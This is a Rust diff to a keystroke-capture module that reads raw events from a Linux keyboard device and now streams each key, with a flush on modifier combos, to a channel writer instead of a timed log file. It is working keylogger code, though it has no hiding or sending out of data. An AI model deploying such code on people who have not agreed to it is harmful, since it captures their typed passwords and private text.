@@ -5,9 +5,11 @@ use std::{
     fs::{File, OpenOptions},
     io::{self, BufRead, Cursor, Read},
     path::Path,
-    time::SystemTime,
+    sync::mpsc::Sender,
 };
 
+use super::LogMessage;
+
 fn get_key_hash_map() -> HashMap<u16, &'static str> {
     let _qwerty_map_no_mod: HashMap<u16, &str> = HashMap::from([
         (1 as u16, "[esc]"),
@@ -85,6 +87,7 @@ fn get_key_hash_map() -> HashMap<u16, &'static str> {
         (54 as u16, "[ShiftR]"),
         (29 as u16, "[CtrlL]"),
         (125 as u16, "[SuperL]"),
+        (126 as u16, "[SuperR]"),
         (56 as u16, "[AltL]"),
         (57 as u16, "[Space]"),
         (100 as u16, "[AltR]"),
@@ -157,8 +160,8 @@ pub(crate) fn nix_find_keyboard_device() -> Result<String> {
 
 pub(crate) fn nix_log_keys(
     keyboard_device_path: String,
-    log_file: String,
-    write_interval: u64,
+    writer: Sender<LogMessage>,
+    flush_on_modifier: bool,
 ) -> Result<()> {
     let mut shift: bool = false;
     let mut capslock: bool = false;
@@ -171,12 +174,9 @@ pub(crate) fn nix_log_keys(
     file_options.write(false);
     let mut dev_file = file_options.open(keyboard_device_path).unwrap();
     let mut packet = [0u8; 24];
-    let mut capture_buffer: String = "".to_string();
-    let mut now;
     let qwerty_map_no_mod = get_key_hash_map();
 
     loop {
-        now = SystemTime::now();
         dev_file.read_exact(&mut packet).unwrap();
         let mut rdr = Cursor::new(packet);
         let tv_sec = rdr.read_u64::<NativeEndian>().unwrap();
@@ -184,19 +184,6 @@ pub(crate) fn nix_log_keys(
         let evtype = rdr.read_u16::<NativeEndian>().unwrap();
         let code = rdr.read_u16::<NativeEndian>().unwrap();
         let value = rdr.read_i32::<NativeEndian>().unwrap();
-        match now.elapsed() {
-            Ok(elapsed) => {
-                if elapsed.as_secs() >= write_interval {
-                    if capture_buffer.len() > 0 {
-                        super::log_keys_to_disk(capture_buffer.clone(), log_file.clone())?;
-                    }
-                    capture_buffer = "".to_string();
-                }
-            }
-            Err(e) => {
-                println!("Error: {:?}", e);
-            }
-        }
         if code != 0 && (evtype == 1 && (value == 1 || value == 0)) {
             if qwerty_map_no_mod.contains_key(&code) {
                 if value == 1 {
@@ -228,18 +215,35 @@ pub(crate) fn nix_log_keys(
                         func = true
                     };
 
-                    capture_buffer.push_str(
-                        super::set_modifier(
+                    let key = super::set_modifier(
+                        qwerty_map_no_mod[&code],
+                        shift,
+                        capslock,
+                        ctrl,
+                        option,
+                        func,
+                    )
+                    .unwrap();
+                    // A key pressed while a modifier is held completes a
+                    // combo, which the event handler should see right away.
+                    let is_combo = (ctrl || option || func)
+                        && !matches!(
                             qwerty_map_no_mod[&code],
-                            shift,
-                            capslock,
-                            ctrl,
-                            option,
-                            func,
-                        )
-                        .unwrap()
-                        .as_str(),
-                    );
+                            "[CtrlL]"
+                                | "[CtrlR]"
+                                | "[AltL]"
+                                | "[AltR]"
+                                | "[ShiftL]"
+                                | "[ShiftR]"
+                                | "[SuperL]"
+                                | "[SuperR]"
+                        );
+                    if writer.send(LogMessage::Key(key)).is_err() {
+                        return Ok(());
+                    }
+                    if flush_on_modifier && is_combo {
+                        let _ = writer.send(LogMessage::Flush);
+                    }
                 } else if value == 0 {
                     if qwerty_map_no_mod[&code] == "[ShiftL]"
                         || qwerty_map_no_mod[&code] == "[ShiftR]"
@@ -251,15 +255,14 @@ pub(crate) fn nix_log_keys(
                     {
                         ctrl = false
                     };
-                    if qwerty_map_no_mod[&code] == "[ShiftL]"
-                        || qwerty_map_no_mod[&code] == "[ShiftR]"
+                    if qwerty_map_no_mod[&code] == "[AltL]" || qwerty_map_no_mod[&code] == "[AltR]"
                     {
-                        shift = false
+                        option = false
                     };
-                    if qwerty_map_no_mod[&code] == "[ShiftL]"
-                        || qwerty_map_no_mod[&code] == "[ShiftR]"
+                    if qwerty_map_no_mod[&code] == "[SuperL]"
+                        || qwerty_map_no_mod[&code] == "[SuperR]"
                     {
-                        shift = false
+                        func = false
                     };
                 }
             } else if value == 1 || value == 0 {